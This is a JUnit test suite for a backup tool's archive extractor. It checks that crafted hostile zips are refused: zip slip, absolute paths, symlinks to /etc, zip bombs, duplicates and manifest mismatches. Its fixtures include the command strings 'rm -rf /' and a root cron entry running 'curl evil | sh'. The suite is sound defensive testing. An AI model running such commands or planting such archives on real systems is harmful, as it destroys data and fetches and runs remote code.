package org.mysqlbackup.restore;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.mysqlbackup.snapshot.BackupManifest;
import org.mysqlbackup.snapshot.DataDirectoryZipper;

/**
 * Real archives unpack exactly; hostile ones, written byte by byte by {@link HostileZip}, are
 * refused with a reason that names the entry, and leave the target as it was and nothing else
 * behind (the folder holding target and archive is listed before and after).
 */
class ArchiveExtractorTest {
    @TempDir
    Path temp;
    private Path work;
    private Path target;
    private final ArchiveExtractor extractor = new ArchiveExtractor(ExtractionLimits.defaults());

    @BeforeEach
    void folders() throws IOException {
        work = Files.createDirectories(temp.resolve("restore"));
        target = work.resolve("datadir");
    }

    @Test
    void unpacksWhatTheZipperWroteWithModesTimesAndTheManifestBeside() throws Exception {
        Path source = Files.createDirectories(temp.resolve("source"));
        Map<String, byte[]> files = new TreeMap<>();
        files.put("ibdata1", random(3 * 1024 * 1024 + 5, 1));
        files.put("empty.bin", new byte[0]);
        files.put("shop/orders.ibd", random(70_000, 2));
        files.put("deep/a/b/leaf.frm", random(10, 3));
        for (Map.Entry<String, byte[]> f : files.entrySet()) {
            Path p = source.resolve(f.getKey());
            Files.createDirectories(p.getParent());
            Files.write(p, f.getValue());
            Files.setPosixFilePermissions(p, PosixFilePermissions.fromString("rw-rw----"));
        }
        Files.createDirectories(source.resolve("empty-db"));
        Path zip = temp.resolve("backup.zip");
        new DataDirectoryZipper(1).zip(source, zip, BackupManifest.before("h", "main", "10.11", source, null)
                .trailer(Map::of));
        List<long[]> progress = new ArrayList<>();

        ExtractedBackup extracted = extractor.extract(zip, target, (done, total) -> progress.add(new long[]{done, total}));

        long total = files.values().stream().mapToLong(b -> b.length).sum();
        assertThat(extracted.dataDirectory()).isEqualTo(target.toAbsolutePath());
        assertThat(extracted.bytes()).isEqualTo(total);
        assertThat(extracted.entries()).isEqualTo(files.size() + 5); // and the folders shop, deep, deep/a, deep/a/b, empty-db
        for (Map.Entry<String, byte[]> f : files.entrySet()) {
            Path p = target.resolve(f.getKey());
            assertThat(p).hasBinaryContent(f.getValue());
            assertThat(PosixFilePermissions.toString(Files.getPosixFilePermissions(p))).isEqualTo("rw-rw----");
            assertThat(Files.getLastModifiedTime(p).toMillis() / 2000)
                    .isEqualTo(Files.getLastModifiedTime(source.resolve(f.getKey())).toMillis() / 2000);
        }
        assertThat(target.resolve("empty-db")).isEmptyDirectory();
        assertThat(target.resolve(BackupManifest.ENTRY_NAME)).doesNotExist();
        assertThat(extracted.manifestFile()).isEqualTo(work.resolve("datadir.backup-manifest.json").toAbsolutePath());
        assertThat(BackupManifest.fromJson(Files.readAllBytes(extracted.manifestFile())).files())
                .hasSize(files.size());
        try (Stream<Path> beside = Files.list(work)) {
            assertThat(beside.map(p -> p.getFileName().toString()).sorted())
                    .containsExactly("datadir", "datadir.backup-manifest.json");
        }
        assertThat(progress).isNotEmpty();
        assertThat(progress.get(progress.size() - 1)).containsExactly(total, total);
    }

    @Test
    void unpacksIntoAnEmptyExistingFolderSuchAsAMountPoint() throws Exception {
        Files.createDirectory(target);
        Path zip = new HostileZip().folder("shop").file("shop/t.ibd", bytes("rows")).file("ibdata1", bytes("x"))
                .write(temp.resolve("ok.zip"));

        ExtractedBackup extracted = extractor.extract(zip, target, ExtractionProgress.NONE);

        assertThat(list(target)).containsExactly("ibdata1", "shop", "shop/t.ibd");
        assertThat(target.resolve("shop/t.ibd")).hasContent("rows");
        assertThat(extracted.entries()).isEqualTo(3);
        assertThat(extracted.bytes()).isEqualTo(5);
    }

    @Test
    void refusesZipSlip() throws Exception {
        Path zip = new HostileZip().file("ibdata1", bytes("x")).file("../../evil.sh", bytes("rm -rf /"))
                .write(temp.resolve("slip.zip"));
        assertRefused(zip, "'../../evil.sh' leaves the target (..)");
        assertThat(temp.resolve("evil.sh")).doesNotExist();
        assertThat(temp.getParent().resolve("evil.sh")).doesNotExist();
    }

    @Test
    void refusesZipSlipInTheMiddleOfAPath() throws Exception {
        Path zip = new HostileZip().unlistedFile("shop/../../evil", bytes("x")).list("shop/evil", 1)
                .write(temp.resolve("slip.zip"));
        assertRefused(zip, "'shop/../../evil' leaves the target");
    }

    @Test
    void refusesAbsolutePaths() throws Exception {
        Path outside = temp.resolve("outside.txt");
        Path zip = new HostileZip().unlistedFile(outside.toString(), bytes("owned")).list("outside.txt", 5)
                .write(temp.resolve("absolute.zip"));
        assertRefused(zip, "has an absolute path");
        assertThat(outside).doesNotExist();
    }

    @Test
    void refusesDriveLettersAndBackslashes() throws Exception {
        assertRefused(new HostileZip().file("C:/Windows/evil.dll", bytes("x")).write(temp.resolve("drive.zip")),
                "starts with a drive letter");
        assertRefused(new HostileZip().file("..\\..\\evil", bytes("x")).write(temp.resolve("backslash.zip")),
                "has a backslash in its name");
    }

    @Test
    void refusesASymbolicLinkToEtcAndTheFileWrittenThroughIt() throws Exception {
        Path zip = new HostileZip().symlink("etc", "/etc").list("etc", 4)
                .file("etc/cron.d/evil", bytes("* * * * * root sh -c 'curl evil | sh'"))
                .write(temp.resolve("symlink.zip"));
        assertRefused(zip, "entry 'etc' is a symbolic link");
        assertThat(Path.of("/etc/cron.d/evil")).doesNotExist();
    }

    @Test
    void refusesDeviceAndFifoEntries() throws Exception {
        Path zip = new HostileZip().raw("dev", new byte[0], 0, 0, 0, 0020000 | 0666).list("dev", 0)
                .write(temp.resolve("device.zip"));
        assertRefused(zip, "entry 'dev' is a character device, not a regular file");
    }

    @Test
    @Timeout(value = 60, unit = TimeUnit.SECONDS)
    void refusesAHundredThousandTinyEntriesTheManifestDoesNotListBeforeWritingAny() throws Exception {
        HostileZip hostile = new HostileZip().file("ibdata1", bytes("x"));
        for (int i = 0; i < 100_000; i++) {
            hostile.unlistedFile("spam/" + i, new byte[]{1});
        }
        Path zip = hostile.write(temp.resolve("spam.zip"));
        assertRefused(zip, "it holds 100001 files besides the manifest but the manifest lists 1");
    }

    @Test
    void refusesMoreEntriesThanTheLimitWithoutReadingTheCentralDirectory() throws Exception {
        HostileZip hostile = new HostileZip();
        for (int i = 0; i < 20; i++) {
            hostile.file("f" + i, new byte[]{1});
        }
        Path zip = hostile.write(temp.resolve("many.zip"));
        ArchiveExtractor strict = new ArchiveExtractor(new ExtractionLimits(10, 1 << 20));
        assertRefused(strict, zip, "more than 10 entries");
    }

    @Test
    @Timeout(value = 60, unit = TimeUnit.SECONDS)
    void refusesAnEntryClaimingOneKibibyteThatInflatesToOneGibibyteStoppingAtTheDeclaredSize() throws Exception {
        Path zip = new HostileZip().file("ibdata1", bytes("x")).bomb("shop/orders.ibd", 1024, 1L << 30)
                .write(temp.resolve("bomb.zip"));
        assertThat(Files.size(zip)).isLessThan(8L << 20);
        long[] most = {0};
        ArchiveRefusedException refused = assertRefused(extractor, zip, (done, total) -> most[0] = Math.max(most[0], done),
                "entry 'shop/orders.ibd' inflates beyond its declared 1024 bytes");
        assertThat(refused).isNotNull();
        assertThat(most[0]).isLessThanOrEqualTo(1025);
    }

    @Test
    void refusesDuplicateNames() throws Exception {
        assertRefused(new HostileZip().file("ibdata1", bytes("a")).unlistedFile("ibdata1", bytes("b"))
                .write(temp.resolve("dup.zip")), "entry 'ibdata1' appears twice");
        assertRefused(new HostileZip().folder("shop").file("shop", bytes("b")).write(temp.resolve("dup2.zip")),
                "entry 'shop' appears twice");
        String composed = "caf\u00e9.ibd";
        String decomposed = "cafe\u0301.ibd";
        assertRefused(new HostileZip().file(composed, bytes("a")).unlistedFile(decomposed, bytes("b"))
                .write(temp.resolve("nfc.zip")), "appears twice (names compared after Unicode normalisation");
        assertRefused(new HostileZip().file("x", bytes("a")).file(BackupManifest.ENTRY_NAME, bytes("{}"))
                .write(temp.resolve("two-manifests.zip")), "'backup-manifest.json' appears twice");
    }

    @Test
    void refusesEntriesAndSizesThatDoNotMatchTheManifest() throws Exception {
        assertRefused(new HostileZip().unlistedFile("extra.ibd", bytes("x")).list("other.ibd", 1)
                .write(temp.resolve("unlisted.zip")), "entry 'extra.ibd' is not in the manifest");
        assertRefused(new HostileZip().unlistedFile("t.ibd", bytes("xyz")).list("t.ibd", 2)
                .write(temp.resolve("size.zip")), "entry 't.ibd' declares 3 bytes but the manifest lists 2");
        assertRefused(new HostileZip().file("a", bytes("x")).list("missing.ibd", 7)
                .write(temp.resolve("missing.zip")), "it holds 1 files besides the manifest but the manifest lists 2");
    }

    @Test
    void refusesAFileThatIsAlsoAFolderOfAnotherEntry() throws Exception {
        assertRefused(new HostileZip().file("shop", bytes("x")).file("shop/t.ibd", bytes("y"))
                .write(temp.resolve("file-folder.zip")), "entry 'shop/t.ibd' lies under 'shop', which is a file");
    }

    @Test
    void refusesADamagedEntryAndRemovesWhatWasWritten() throws Exception {
        byte[] content = random(200_000, 9);
        byte[] other = random(100, 10);
        Path zip = new HostileZip().file("good.ibd", other)
                .raw("t.ibd", content, 0, HostileZip.crc(content) ^ 1, content.length, 0100640).list("t.ibd", content.length)
                .write(temp.resolve("crc.zip"));
        assertRefused(zip, "entry 't.ibd' is damaged (CRC-32");
    }

    @Test
    void refusesAnArchiveWithoutManifestAndAFileThatIsNoZip() throws Exception {
        assertRefused(new HostileZip().folder("x").writeWithoutManifest(temp.resolve("old.zip")),
                "it holds no backup-manifest.json");
        Path notZip = Files.writeString(temp.resolve("notes.zip"), "just text, no archive");
        assertRefused(notZip, "not a zip archive");
    }

    @Test
    void aRefusedArchiveLeavesAnEmptyExistingTargetEmpty() throws Exception {
        Files.createDirectory(target);
        Path zip = new HostileZip().file("ok.ibd", bytes("fine")).bomb("z.ibd", 10, 50_000_000)
                .write(temp.resolve("bomb-late.zip"));
        assertRefused(zip, "inflates beyond");
        assertThat(target).isEmptyDirectory();
    }

    @Test
    void aTargetThatIsNotEmptyIsNotTouched() throws Exception {
        Files.createDirectories(target);
        Files.writeString(target.resolve("keep.me"), "production");
        Path zip = new HostileZip().file("ibdata1", bytes("x")).write(temp.resolve("ok.zip"));
        assertThatThrownBy(() -> extractor.extract(zip, target, ExtractionProgress.NONE))
                .isInstanceOf(IOException.class).hasMessageContaining("is not empty");
        assertThat(list(target)).containsExactly("keep.me");
        assertThat(list(work)).containsExactly("datadir", "datadir/keep.me");
    }

    private ArchiveRefusedException assertRefused(Path zip, String reason) throws IOException {
        return assertRefused(extractor, zip, reason);
    }

    private ArchiveRefusedException assertRefused(ArchiveExtractor which, Path zip, String reason) throws IOException {
        return assertRefused(which, zip, ExtractionProgress.NONE, reason);
    }

    /** Refused with {@code reason}; the restore folder and the folder of the archive are as before. */
    private ArchiveRefusedException assertRefused(ArchiveExtractor which, Path zip, ExtractionProgress progress,
                                                  String reason) throws IOException {
        List<String> workBefore = list(work);
        List<String> tempBefore = list(temp);
        ArchiveRefusedException refused = null;
        try {
            which.extract(zip, target, progress);
        } catch (ArchiveRefusedException e) {
            refused = e;
        }
        assertThat(refused).as("refused").isNotNull();
        assertThat(refused.reason()).contains(reason);
        assertThat(refused.getMessage()).startsWith("archive " + zip.getFileName() + " refused: ");
        assertThat(list(work)).isEqualTo(workBefore);
        assertThat(list(temp)).isEqualTo(tempBefore);
        return refused;
    }

    private static List<String> list(Path root) throws IOException {
        try (Stream<Path> all = Files.walk(root)) {
            return all.filter(p -> !p.equals(root)).map(p -> root.relativize(p).toString()).sorted().toList();
        }
    }

    private static byte[] bytes(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] random(int size, long seed) {
        byte[] b = new byte[size];
        new Random(seed).nextBytes(b);
        return b;
    }
}
